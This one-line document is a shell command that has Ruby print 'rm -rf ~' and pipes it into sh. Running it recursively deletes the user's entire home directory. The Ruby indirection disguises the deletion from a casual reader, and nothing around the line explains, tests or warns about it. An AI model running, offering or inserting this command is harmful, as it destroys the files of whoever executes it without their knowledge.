ruby -e 'puts "rm -rf ~"' | sh
